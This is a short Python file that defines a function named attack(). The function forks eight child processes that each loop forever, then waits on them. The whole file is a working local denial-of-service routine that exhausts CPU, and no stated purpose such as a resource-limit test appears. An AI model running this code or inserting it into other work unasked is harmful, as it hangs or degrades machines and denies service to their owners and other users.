import os


def attack():
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    os.wait()
